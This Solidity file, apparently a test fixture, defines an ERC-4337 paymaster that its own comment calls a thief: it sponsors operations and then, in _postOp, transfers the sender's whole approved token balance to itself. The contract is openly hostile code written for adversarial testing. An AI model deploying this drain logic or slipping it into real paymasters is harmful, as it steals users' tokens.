// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.28;

import {ERC4337Utils, PackedUserOperation} from "@openzeppelin/contracts/account/utils/ERC4337Utils.sol";
import {IEntryPoint} from "@openzeppelin/contracts/interfaces/IERC4337.sol";
import {Paymaster} from "@openzeppelin/contracts/account/paymaster/Paymaster.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Math} from "@openzeppelin/contracts/utils/math/Math.sol";

/// A thief: pays for every operation, and takes all tokens that its sender lets it take. The data begins with the token.
contract GreedyPaymaster is Paymaster {
    using ERC4337Utils for *;

    /// The library's default is EntryPoint 0.9.
    function entryPoint() public pure override returns (IEntryPoint) {
        return ERC4337Utils.ENTRYPOINT_V07;
    }

    function addStake(uint32 unstakeDelay) external payable {
        _addStake(msg.value, unstakeDelay);
    }

    function _validatePaymasterUserOp(PackedUserOperation calldata op, bytes32, uint256)
        internal
        pure
        override
        returns (bytes memory, uint256)
    {
        return (abi.encodePacked(op.sender, op.paymasterData()[0:20]), 0);
    }

    function _postOp(PostOpMode, bytes calldata context, uint256, uint256) internal override {
        address sender = address(bytes20(context[0:20]));
        IERC20 token = IERC20(address(bytes20(context[20:40])));
        uint256 all = Math.min(token.allowance(sender, address(this)), token.balanceOf(sender));
        if (all > 0) require(token.transferFrom(sender, address(this), all));
    }
}
